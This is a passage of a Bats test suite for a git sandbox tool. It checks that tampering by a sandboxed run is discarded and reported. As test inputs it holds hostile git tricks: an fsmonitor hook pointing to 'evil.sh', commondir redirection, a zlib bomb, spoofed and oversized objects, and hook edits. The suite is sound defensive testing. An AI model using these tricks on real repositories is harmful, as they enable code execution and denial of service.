  [ "$output" = "EVIL CONTENT" ]
  [ "$(hgit -C "$REPO" show main:README)" = one ]
  [ "$(hgit -C "$REPO" cat-file -p "$readme")" = one ]
  [ ! -e "$REPO/.git/objects/pack/$pack.idx" ]
  [ ! -e "$REPO/.git/objects/${future:0:2}/${future:2}" ]
  [ "$(discarded)" = "[\"objects/\",\"objects/${future:0:2}/${future:2}\",\"objects/pack/$pack.idx\",\"objects/pack/$pack.pack\"]" ]
  grep -q "objects/${future:0:2}/${future:2}\` is not what its name says" "$DIR/stderr"
  # the user vendors the real file: its bytes come back
  as_owner sh -c 'printf "GOOD-UPSTREAM-1.2.3\n" >"$1/lib.js"' sh "$REPO"
  hgit -C "$REPO" add lib.js
  hgit -C "$REPO" commit -qm vendor
  rm "$REPO/lib.js"
  hgit -C "$REPO" checkout -- lib.js
  [ "$(cat "$REPO/lib.js")" = GOOD-UPSTREAM-1.2.3 ]
  hgit -C "$REPO" fsck --strict
}

# route_sparse root|user (review19 #3): sparse files cost the run nothing (its upper dir is a
# tmpfs) and fsrun used to write them out in full into the repository: a 1 GiB object (then found
# wrong and removed) and a 1 GiB MERGE_MSG (kept). Both are now refused before any of it is written
# on the host, and reported; so is a 2 MiB COMMIT_EDITMSG (above the admin files' 1 MiB), while a
# small SQUASH_MSG the run made 0666 lands as 0644. The repository grows by less than 1 MiB on disk.
route_sparse() {
  make_repo "$1"
  local before after obj=objects/ab/0123456789abcdef0123456789abcdef012345
  before=$(du -s -B1 "$REPO/.git" | cut -f1)
  sbx -- "set -e; c=\$(git rev-parse --git-common-dir); a=\$(git rev-parse --git-dir)
    mkdir -p \$c/objects/ab && truncate -s 1G \$c/$obj && truncate -s 1G \$a/MERGE_MSG
    yes message | head -c 2097152 >\$a/COMMIT_EDITMSG
    echo squash >\$a/SQUASH_MSG && chmod 666 \$a/SQUASH_MSG
    du -s -k \$c/$obj \$a/MERGE_MSG"
  after=$(du -s -B1 "$REPO/.git" | cut -f1)
  echo "du of the repository's .git: $before, then $after bytes"
  [ $((after - before)) -lt $((1024 * 1024)) ]
  [ "$(discarded)" = "[\"objects/\",\"$obj\",\"worktrees/task/COMMIT_EDITMSG\",\"worktrees/task/MERGE_MSG\"]" ]
  [ ! -e "$REPO/.git/$obj" ]
  [ ! -e "$REPO/.git/worktrees/task/MERGE_MSG" ]
  grep -q "is not what its name says (a sparse file)" "$DIR/stderr"
  [ "$(cat "$REPO/.git/worktrees/task/SQUASH_MSG")" = squash ]
  [ "$(stat -c %a "$REPO/.git/worktrees/task/SQUASH_MSG")" = 644 ]
  [ -z "$(find "$REPO/.git" -name '.fsrun-sync.*')" ]
  hgit -C "$REPO" fsck --strict
}

# route_objects_incomplete root|user (review19 #8, gitrace's "Left"): a commit whose tree object
# was made a fifo inside (a fifo used to be skipped without a word, like a sparse, too large or
# wrong object once discarded, or the objects past the walk's 200,000-entry cap) does not move the
# branch: the host's branch would name a commit whose tree it lacks ("bad tree object HEAD").
# `objects/` and the fifo are reported, so are the branch, the index and logs/HEAD, which name
# the run's objects too; the host's fsck --strict and `git status` stay clean, and the next run's
# commit of the same change lands.
route_objects_incomplete() {
  make_repo "$1"
  local task0 tree
  task0=$(hgit -C "$REPO" rev-parse task)
  sbx -- 'set -e; echo two >>README; git commit -qam broken; t=$(git rev-parse HEAD^{tree})
    f=$(git rev-parse --git-common-dir)/objects/$(echo $t | cut -c1-2)/$(echo $t | cut -c3-)
    rm -f $f && mkfifo $f && echo $t'
  tree=$output
  [ "$(hgit -C "$REPO" rev-parse task)" = "$task0" ]
  [ "$(discarded)" = "[\"objects/\",\"objects/${tree:0:2}/${tree:2}\",\"refs/heads/task\",\"worktrees/task/index\",\"worktrees/task/logs/HEAD\"]" ]
  grep -q "objects/${tree:0:2}/${tree:2}\` is not what its name says (not a regular file)" "$DIR/stderr"
  grep -q "refs/heads/task: not applied, as some of the run's objects were not" "$DIR/stderr"
  [ ! -e "$REPO/.git/objects/${tree:0:2}/${tree:2}" ]
  hgit -C "$REPO" fsck --strict
  hgit -C "$WT" status --porcelain | grep -qx ' M README'
  rm -f "$DIR/audit.jsonl"
  sbx -- 'git commit -qam again'
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = again ]
  [ "$(discarded)" = '[]' ]
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: a commit whose tree was not applied moves no branch; objects/ is reported (root)" {
  route_objects_incomplete root
}

@test "sandbox-git: a commit whose tree was not applied moves no branch; objects/ is reported (ordinary user)" {
  route_objects_incomplete user
}

@test "sandbox-git: a sparse 1 GiB object and MERGE_MSG are discarded, not written on the host (root)" {
  route_sparse root
}

@test "sandbox-git: a sparse 1 GiB object and MERGE_MSG are discarded, not written on the host (ordinary user)" {
  route_sparse user
}

# route_objects_packed root|user: a commit's loose objects land; a `git repack` inside packs the
# next commit's, and a pack is never adopted: the branch stays at the last commit the host has
# (reported with the pack); after a `git gc` too (its packed-refs is not applied either); a fetch
# of a few objects from a local repository arrives loose and lands, one kept as a pack
# (`git fetch --keep`) does not
route_objects_packed() {
  make_repo "$1"
  local up=$DIR/up c1
  hgit clone -q "$REPO" "$up"
  hgit -C "$up" config user.email up@example.invalid
  hgit -C "$up" config user.name up
  as_owner sh -c 'echo upstream >"$1/UP"' sh "$up"
  hgit -C "$up" add UP
  hgit -C "$up" commit -qm upstream
  jq -n --arg u "$up" '{allowedPaths: [$u]}' >"$DIR/policy.json"
  sbx -- 'echo two >>README && git commit -qam loose-commit'
  c1=$(hgit -C "$REPO" rev-parse task)
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = loose-commit ]
  [ "$(discarded)" = '[]' ]
  sbx -- 'echo three >>README && git commit -qam packed-commit && git repack -adq && git log -1 --format=%s'
  [ "$output" = packed-commit ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$c1" ]
  discarded | jq -e 'index("refs/heads/task") and (map(select(startswith("objects/pack/pack-"))) | length > 0)'
  hgit -C "$REPO" fsck --strict
  # the worktree's files are the run's: the host can commit them again
  [ "$(tail -1 "$WT/README")" = three ]
  hgit -C "$WT" reset -q --hard
  rm -f "$DIR/audit.jsonl"
  sbx -- 'echo four >>README && git commit -qam gc-commit && git gc -q'
  [ "$(hgit -C "$REPO" rev-parse task)" = "$c1" ]
  discarded | jq -e 'index("refs/heads/task")'
  hgit -C "$REPO" fsck --strict
  hgit -C "$WT" reset -q --hard
  rm -f "$DIR/audit.jsonl"
  sbx -- "git fetch -q --keep '$up' main && git reset -q --hard FETCH_HEAD"
  [ "$(hgit -C "$REPO" rev-parse task)" = "$c1" ]
  discarded | jq -e 'index("refs/heads/task")'
  rm -f "$DIR/audit.jsonl"
  sbx -- "git fetch -q '$up' main && git reset -q --hard FETCH_HEAD"
  [ "$(hgit -C "$REPO" rev-parse task)" = "$(hgit -C "$up" rev-parse main)" ]
  [ "$(hgit -C "$REPO" show task:UP)" = upstream ]
  hgit -C "$REPO" fsck --strict
  # git's automatic gc is off inside (GIT_CONFIG_COUNT): a commit past gc.auto still lands loose.
  # `gc --auto` estimates the loose objects from objects/17/: two blobs there pass gc.auto 1
  python3 -c 'import hashlib
n = 0
for i in range(100000):
    d = b"gc-%d\n" % i
    if hashlib.sha1(b"blob %d\0" % len(d) + d).hexdigest().startswith("17"):
        print(d.decode(), end="")
        n += 1
        if n == 2:
            break' | while read -r line; do echo "$line" | hgit -C "$REPO" hash-object -w --stdin; done
  [ "$(ls "$REPO/.git/objects/17" | wc -l)" -ge 2 ]
  hgit -C "$REPO" config gc.auto 1
  sbx -- 'echo five >>README && git commit -qam auto-gc-commit'
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = auto-gc-commit ]
}

# route_objects_fetch_many root|user: a fetch of 150 commits (450 new objects; git keeps a fetch of
# 100 or more as a pack by default, and a pack is never adopted) from a second repository bound
# read-only into the run arrives loose (the command's unpack limits) and lands: the host's git
# log and cat-file see every commit. The caller's own GIT_CONFIG_COUNT entry, passed by
# envAllowlist, is still in force inside beside fsrun's.
route_objects_fetch_many() {
  make_repo "$1"
  local up=$DIR/up i
  hgit clone -q "$REPO" "$up"
  for i in $(seq 150); do
    printf 'commit refs/heads/main\ncommitter up <up@example.invalid> %d +0000\n' $((1700000000 + i))
    printf 'data <<E\nc%d\nE\n' "$i"
    [ "$i" != 1 ] || echo 'from refs/heads/main^0'
    printf 'M 644 inline UP\ndata <<E\nupstream %d\nE\n\n' "$i"
  done | hgit -C "$up" fast-import --quiet
  [ "$(hgit -C "$up" rev-list --objects main --not "$MAIN0" | wc -l)" -eq 450 ]
  jq -n --arg u "$up" '{allowedPaths: [$u],
    envAllowlist: ["GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"]}' >"$DIR/policy.json"
  GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=from-callers-env \
    sbx -- "git config user.name && git fetch -q '$up' main && git reset -q --hard FETCH_HEAD"
  [ "$output" = from-callers-env ]
  [ "$(discarded)" = '[]' ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$(hgit -C "$up" rev-parse main)" ]
  [ "$(hgit -C "$REPO" log --format=%s task | head -3 | tr '\n' ' ')" = 'c150 c149 c148 ' ]
  [ "$(hgit -C "$REPO" rev-list --count task)" -eq 151 ]
  [ -z "$(hgit -C "$up" rev-list --objects main | cut -d' ' -f1 |
    hgit -C "$REPO" cat-file --batch-check | grep -v ' \(commit\|tree\|blob\) ')" ]
  [ "$(hgit -C "$REPO" show task:UP)" = 'upstream 150' ]
  hgit -C "$REPO" fsck --strict
}

# a stash entry of the user's in the main checkout: WIP on README
user_stash() {
  as_owner sh -c 'echo user-wip >>"$1/README"' sh "$REPO"
  hgit -C "$REPO" stash -q
  USER_STASH=$(hgit -C "$REPO" rev-parse refs/stash)
}

# route_stash_task root|user: the stash is the repository's; a run in a task worktree keeps its
# own: `git stash clear` and a push on top leave the user's entry where it was, a push and pop of
# the run's own entry works inside
route_stash_task() {
  make_repo "$1"
  user_stash
  sbx -- 'git stash clear && git stash list | wc -l'
  [ "$output" = 0 ]
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 1 ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash","refs/stash"]' ]
  rm -f "$DIR/audit.jsonl"
  sbx -- 'echo agent >>README && git stash -q && git stash list | wc -l'
  [ "$output" = 2 ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash","refs/stash"]' ]
  hgit -C "$WT" checkout -q -- README
  rm -f "$DIR/audit.jsonl"
  sbx -- 'echo mine >>README && git stash -q && git stash pop -q && tail -1 README'
  [ "$output" = mine ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 1 ]
  [ "$(discarded)" = '[]' ]
  hgit -C "$REPO" stash pop -q
  [ "$(tail -1 "$REPO/README")" = user-wip ]
}

# route_stash_main root|user: in the main checkout the stash is the run's to push on top of, never
# to clear or drop from
route_stash_main() {
  make_repo "$1"
  user_stash
  sbx "$REPO" -- 'git stash clear'
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash","refs/stash"]' ]
  rm -f "$DIR/audit.jsonl"
  sbx "$REPO" -- 'git stash drop -q stash@{0}'
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash","refs/stash"]' ]
  rm -f "$DIR/audit.jsonl"
  sbx "$REPO" -- 'echo agent >>README && git stash -q'
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 2 ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{1}')" = "$USER_STASH" ]
  [ "$(discarded)" = '[]' ]
  # dropping the older (the user's) entry rewrites the reflog below the top: not applied
  sbx "$REPO" -- 'git stash drop -q stash@{1} && git stash list | wc -l'
  [ "$output" = 1 ]
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 2 ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{1}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash"]' ]
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: a pack spoofing an existing object and a loose object under another content's id are discarded (root)" {
  route_spoof_objects root
}

@test "sandbox-git: a pack spoofing an existing object and a loose object under another content's id are discarded (ordinary user)" {
  route_spoof_objects user
}

@test "sandbox-git: loose commits and small fetches land; a gc'd or packed fetch's branch move does not (root)" {
  route_objects_packed root
}

@test "sandbox-git: loose commits and small fetches land; a gc'd or packed fetch's branch move does not (ordinary user)" {
  route_objects_packed user
}

@test "sandbox-git: a fetch of 150 commits arrives loose and lands; the caller's GIT_CONFIG_COUNT is kept (root)" {
  route_objects_fetch_many root
}

@test "sandbox-git: a fetch of 150 commits arrives loose and lands; the caller's GIT_CONFIG_COUNT is kept (ordinary user)" {
  route_objects_fetch_many user
}

@test "sandbox-git: a task worktree's stash clear and push leave the user's stash; push and pop inside work (root)" {
  route_stash_task root
}

@test "sandbox-git: a task worktree's stash clear and push leave the user's stash; push and pop inside work (ordinary user)" {
  route_stash_task user
}

@test "sandbox-git: in the main checkout the stash is only pushed on, never cleared or dropped (root)" {
  route_stash_main root
}

@test "sandbox-git: in the main checkout the stash is only pushed on, never cleared or dropped (ordinary user)" {
  route_stash_main user
}

main_checkout() {
  make_repo "$1"
  local other0
  other0=$(hgit -C "$REPO" rev-parse other)
  cp "$DIR/evil.sh" "$REPO/"
  sbx "$REPO" -- "echo two >>README && git commit -qam on-main &&
          cp -r .git evil && git config -f evil/config core.fsmonitor $REPO/evil.sh &&
          echo $REPO/evil >.git/commondir; git update-ref refs/heads/other HEAD;
          echo $REPO/evil >.git/worktrees/task/commondir; true"
  [ "$(hgit -C "$REPO" log -1 --format=%s main)" = on-main ]
  [ ! -e "$REPO/.git/commondir" ]
  [ "$(hgit -C "$REPO" rev-parse other)" = "$other0" ]
  [ "$(cat "$REPO/.git/worktrees/task/commondir")" = ../.. ]
  assert_status_runs_nothing "$REPO"
  assert_status_runs_nothing "$WT"
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: on the main checkout, commits land and the routes are closed (root)" {
  main_checkout root
}

@test "sandbox-git: on the main checkout, commits land and the routes are closed (ordinary user)" {
  main_checkout user
}

@test "sandbox-git: a branch moved on the host during the run is not overwritten" {
  make_repo root
  local tries=$((WAIT_MAX_S * 10)) host_value
  # the command commits, says so, and waits (bounded) until the host has moved the branch
  as_owner "$FSRUN" --root "$DIR/state" sandbox --json --policy "$DIR/policy.json" \
    --worktree "$WT" -- /bin/sh -c 'echo two >>README && git commit -qam in-sandbox && touch ready
      i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done' \
    >"$DIR/out.json" 2>"$DIR/stderr" &
  while [ ! -e "$WT/ready" ] && [ "$tries" -gt 0 ]; do
    sleep 0.1
    tries=$((tries - 1))
  done
  [ -e "$WT/ready" ]
  hgit -C "$REPO" update-ref refs/heads/task "$(hgit -C "$REPO" commit-tree -m host 'main^{tree}')"
  host_value=$(hgit -C "$REPO" rev-parse task)
  touch "$WT/go"
  wait $!
  cat "$DIR/out.json"
  [ "$(hgit -C "$REPO" rev-parse task)" = "$host_value" ]
  grep -q "refs/heads/task moved on the host during the run" "$DIR/stderr"
}

# run_dir_fs OWNER: while a command waits in the sandbox, what the host sees of the run's per-run
# git dir: on a state root that is not a tmpfs, as root a tmpfs of its own mounted on the state
# root's directory, as an ordinary user a directory of its own in /dev/shm (a tmpfs: the overlay's
# upper and work dirs need not reach a disk), mode 0700, and nothing of the run under the state root
# but its container; on a tmpfs state root a plain directory there. After the run, no per-run dir
# and no mount are left (and teardown finds no mount under DIR).
run_dir_fs() {
  make_repo "$1"
  local dir expect=plain
  # run_dir_fs OWNER tmpfs: the state root a tmpfs (as $XDG_RUNTIME_DIR is), unmounted at the end
  [ "${2:-}" = tmpfs ] && mount -t tmpfs -o "mode=700,uid=$TEST_UID,gid=$TEST_GID" tmpfs "$DIR/state"
  if [ "$(stat -f -c %T "$DIR/state")" != tmpfs ]; then
    expect=own-tmpfs
    [ "$1" = user ] && expect=shm
  fi
  as_owner timeout -s KILL 120 "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" \
    --worktree "$WT" -- /bin/sh -c 'echo two >>README && git commit -qam in-sandbox && touch ready
      i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done' 2>"$DIR/stderr" &
  wait_for_file "$WT/ready"
  dir=$(run_dirs)
  echo "per-run dir: $dir ($expect)"
  [ -d "$dir/upper" ]
  case $expect in
    own-tmpfs) [ "$(findmnt -n -o FSTYPE --mountpoint "$dir")" = tmpfs ] ;;
    shm)
      [ "${dir%/*}" = /dev/shm ]
      [ "$(stat -f -c %T "$dir")" = tmpfs ]
      [ "$(stat -c %u:%a "$dir")" = "$TEST_UID:700" ]
      ! ls -A "$DIR/state" | grep '^\.sandbox-git\.' || false ;;
    plain) [ -z "$(findmnt -n --mountpoint "$dir")" ] && [ "${dir%/*}" = "$DIR/state" ] ;;
  esac
  touch "$WT/go"
  wait $!
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = in-sandbox ]
  [ "$(ls -A "$DIR/state" | grep -v '^\.sandbox-kept-[0-3]$')" = .sandbox-bundle ]
  [ -z "$(run_dirs)" ]
  [ -z "$(grep -F -- "$DIR/state/" /proc/self/mountinfo)" ]
  [ "${2:-}" != tmpfs ] || umount "$DIR/state"
}

@test "sandbox-git: the per-run git dir is a tmpfs as root on a disk state root, and goes after the run (root)" {
  run_dir_fs root
}

@test "sandbox-git: the per-run git dir is in /dev/shm for an ordinary user on a disk state root, and goes after the run (ordinary user)" {
  run_dir_fs user
}

@test "sandbox-git: on a tmpfs state root the per-run git dir is a directory of it (ordinary user)" {
  run_dir_fs user tmpfs
}

# sigkilled OWNER: fsrun sandbox SIGKILLed while its command waits: the watchdog removes the
# container and the per-run git dir (wherever it is: git_run_dirs), and nothing is applied
sigkilled() {
  make_repo "$1"
  local tries pid as=()
  [ "$1" = root ] || as=(setpriv --reuid "$TEST_UID" --regid "$TEST_GID" --clear-groups env HOME="$DIR/home")
  # a simple command, not as_owner: $! must be fsrun itself (setpriv and env exec it)
  "${as[@]}" "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$WT" -- /bin/sh -c \
    'echo two >>README && git commit -qam in-sandbox && touch ready
     i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done' 3>&- &
  pid=$!
  wait_for_file "$WT/ready"
  # the per-run dir of a run on a disk is a tmpfs (run_dir_fs): the watchdog unmounts it too
  [ -n "$(run_dirs)" ]
  [ "$1" = user ] || [ "$(stat -f -c %T "$DIR/state")" = tmpfs ] ||
    [ "$(findmnt -n -o FSTYPE --mountpoint "$(echo "$DIR"/state/.sandbox-git.*)")" = tmpfs ]
  kill -KILL "$pid"
  wait "$pid" || true
  # the watchdog deletes the container and the run's git dir once it sees fsrun die
  tries=$((WAIT_MAX_S * 10))
  while [ -n "$(run_dirs)" ] && [ "$tries" -gt 0 ]; do
    sleep 0.1
    tries=$((tries - 1))
  done
  run_dirs
  [ -z "$(run_dirs)" ]
  ls -A "$DIR/state"
  [ "$(ls -A "$DIR/state" | grep -v '^\.sandbox-kept-[0-3]$')" = .sandbox-bundle ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$MAIN0" ]
  as_owner touch "$WT/go"
}

@test "sandbox-git: a SIGKILLed fsrun sandbox leaves no per-run git dir, and applies nothing" {
  sigkilled root
}

@test "sandbox-git: a SIGKILLed fsrun sandbox leaves no per-run git dir, and applies nothing (ordinary user)" {
  sigkilled user
}

# make_bomb FILE MIB: as the owner, FILE holds a loose object of MIB MiB of zeros (its zlib: about
# a thousandth of that) to be copied under a name it does not hash to: the sync inflates and
# hashes all of it before it finds that out
make_bomb() {
  as_owner python3 -c '
import sys, zlib
c, out, mib = zlib.compressobj(9), open(sys.argv[1], "wb"), int(sys.argv[2])
out.write(c.compress(b"blob %d\0" % (mib << 20)))
for _ in range(mib):
    out.write(c.compress(bytes(1 << 20)))
out.write(c.flush())' "$1" "$2"
}

# the fsrun command line sbx_killed_in_sync runs its script with (exec-git.bats: an exec)
killed_fsrun() {
  KILLED_FSRUN=("$FSRUN" --root "$DIR/state" sandbox --audit-log "$DIR/audit.jsonl"
    --policy "$DIR/policy.json" --worktree "$WT" --)
  [ "$OWNER" != root ] || KILLED_FSRUN=("${KILLED_FSRUN[@]:0:4}" --json "${KILLED_FSRUN[@]:4}")
}

# sbx_killed_in_sync SCRIPT: SCRIPT run by sh as sbx runs it, but in the background with fsrun's
# stderr on a fifo, and fsrun SIGKILLed as soon as its tamper line is out (the point it is held at
# is the sync after it, made seconds long by the caller's bomb); fsrun's stderr in $DIR/stderr
sbx_killed_in_sync() {
  local fifo=$DIR/stderr.fifo pid line rfd rc=0 as=()
  [ "$OWNER" = root ] || as=(setpriv --reuid "$TEST_UID" --regid "$TEST_GID" --clear-groups env HOME="$DIR/home")
  killed_fsrun
  mkfifo "$fifo"
  # a simple command, not as_owner: $! must be fsrun itself (setpriv and env exec it)
  "${as[@]}" env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null "${KILLED_FSRUN[@]}" \
    /bin/sh -c "$1" >"$DIR/out" 2>"$fifo" 3>&- &
  pid=$!
  exec {rfd}<"$fifo"
  : >"$DIR/stderr"
  while IFS= read -r -u "$rfd" line; do
    printf '%s\n' "$line" >>"$DIR/stderr"
    [[ $line != *"; tamper: "* ]] || break
  done
  kill -KILL "$pid"
  wait "$pid" || rc=$?
  cat <&"$rfd" >>"$DIR/stderr"
  exec {rfd}<&-
  cat "$DIR/stderr"
  [ "$rc" -eq 137 ]
}

# after_sync_killed: the watchdog of the killed fsrun sandbox has removed its per-run dir (an
# event: the bound only ends a failure)
after_sync_killed() {
  wait_no_run_dirs
  [ "$(ls -A "$DIR/state" | grep -v '^\.sandbox-kept-[0-3]$')" = .sandbox-bundle ]
}

# route_sync_killed OWNER (review19 #15): the command plants a nested repository, edits the hook
# core.hooksPath names, and a zlib bomb (the tamper line names the config entry first: review25 C5)
# within the sync's budget (448 MiB of zeros under a name it does not hash to), and fsrun is
# SIGKILLed once its tamper line is out. That line named the nested repository before the sync
# (none of the sync's own warnings had come: it was still inflating), and afterwards nothing of the
# run is mounted on the host or left in the state root (the per-run dir: a tmpfs of its own as
# root), no fsrun of that state root runs, and the repository has nothing of the bomb.
route_sync_killed() {
  make_repo "$1"
  local bomb_name
  bomb_name=ab/$(printf '%038d' 0)
  make_bomb "$WT/.bomb" 448
  hgit -C "$REPO" config core.hooksPath .husky
  as_owner mkdir "$WT/.husky"
  as_owner sh -c 'printf "#!/bin/sh\ntrue\n" >"$1" && chmod 755 "$1"' sh "$WT/.husky/pre-commit"
  sbx_killed_in_sync "git init -q nested && echo 'echo ran' >>.husky/pre-commit &&
    o=\$(git rev-parse --git-common-dir)/objects && mkdir -p \$o/ab && cp .bomb \$o/$bomb_name"
  grep -qF '; tamper: ["config:core.hooksPath=.husky","nested/.git"]' "$DIR/stderr"
  ! grep -q 'is not what its name says\|left out what' "$DIR/stderr" || false
  after_sync_killed
  run_dirs
  [ -z "$(run_dirs)" ]
  ! grep -F -- "$DIR/state" /proc/self/mountinfo || false
  no_process_left -f -- "--root $DIR/state"
  [ ! -e "$REPO/.git/objects/$bomb_name" ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$MAIN0" ]
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: fsrun SIGKILLed during a slow sync said the tamper first; no per-run dir or mount is left (root)" {
  route_sync_killed root
}

@test "sandbox-git: fsrun SIGKILLed during a slow sync said the tamper first; no per-run dir or mount is left (ordinary user)" {
  route_sync_killed user
}

# make_big_blob FILE MIB: as the owner, FILE holds the loose object of a blob of MIB MiB of zeros,
# a valid one; its id on stdout
make_big_blob() {
  as_owner python3 -c '
import hashlib, sys, zlib
mib = int(sys.argv[2])
head = b"blob %d\0" % (mib << 20)
h, c, out = hashlib.sha1(head), zlib.compressobj(9), open(sys.argv[1], "wb")
out.write(c.compress(head))
for _ in range(mib):
    h.update(bytes(1 << 20))
    out.write(c.compress(bytes(1 << 20)))
out.write(c.flush())
print(h.hexdigest())' "$1" "$2"
}

# route_sync_budget OWNER (review19 #15): a valid object of 513 MiB of data, over the 512 MiB one
# sync inflates and hashes at most (docs/sandbox.md), and a small commit. The object is refused at
# its header and reported, with `objects/`, so the branch does not move (4a3d3f7); the worktree
# keeps the change, to be committed again.
route_sync_budget() {
  make_repo "$1"
  local id
  id=$(make_big_blob "$WT/.big" 513)
  sbx -- "set -e; o=\$(git rev-parse --git-common-dir)/objects; mkdir -p \$o/${id:0:2}
    cp .big \$o/${id:0:2}/${id:2}; git cat-file -t $id; echo two >>README; git commit -qam small"
  [ "$output" = blob ]
  grep -q "objects/${id:0:2}/${id:2}\` is not what its name says (more data than the sync may still inflate)" "$DIR/stderr"
  [ "$(discarded)" = "[\"objects/\",\"objects/${id:0:2}/${id:2}\",\"refs/heads/task\",\"worktrees/task/index\",\"worktrees/task/logs/HEAD\"]" ]
  [ ! -e "$REPO/.git/objects/${id:0:2}/${id:2}" ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$MAIN0" ]
  hgit -C "$WT" status --porcelain | grep -qx ' M README'
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: an object past the sync's 512 MiB budget is not adopted and moves no branch (root)" {
  route_sync_budget root
}

@test "sandbox-git: an object past the sync's 512 MiB budget is not adopted and moves no branch (ordinary user)" {
  route_sync_budget user
}

# route_sync_walk_bound OWNER (flake24): a commit, and 200,001 more entries under objects/ than one
# sync walks (200,000; the walk's other bound, 4 s of CPU time, is the unit test's: a test's machine
# cannot be made to reach it exactly). The entries are empty files under names no object has
# (objects/junk/N): each costs the sync a readdir, not a file on the host, so the walk reaches its
# entry bound and not its CPU time. Past the bound nothing more is checked: `objects/` is reported,
# the branch is not moved (said on stderr: the report's 64 paths are the junk's) (were the junk walked whole, the commit's objects would land and the
# branch move); the worktree keeps the change and the host gets none of the entries.
route_sync_walk_bound() {
  make_repo "$1"
  [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
  sbx -- "set -e; echo two >>README; git commit -qam small
    /usr/bin/python3 -c 'import os, sys
os.mkdir(sys.argv[1])
for i in range(200001):
    os.close(os.open(\"%s/%d\" % (sys.argv[1], i), os.O_WRONLY | os.O_CREAT, 0o644))' \
      \$(git rev-parse --git-common-dir)/objects/junk"
  grep -q 'the run wrote more than 200000 entries under objects/: the rest were not applied' \
    "$DIR/stderr"
  grep -q '^fsrun: warning: sandbox: git: refs/heads/task: .*; not applied$' "$DIR/stderr"
  # the report is full of the junk (64 paths): `objects/` takes the last slot
  discarded | jq -e 'length == 64 and index("objects/") != null'
  [ "$(hgit -C "$REPO" rev-parse task)" = "$MAIN0" ]
  [ ! -e "$REPO/.git/objects/junk" ]
  hgit -C "$WT" status --porcelain | grep -qx ' M README'
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: a run past the 200,000 entries one sync walks is reported and moves no branch (root)" {
  route_sync_walk_bound root
}

@test "sandbox-git: a run past the 200,000 entries one sync walks is reported and moves no branch (ordinary user)" {
  route_sync_walk_bound user
}
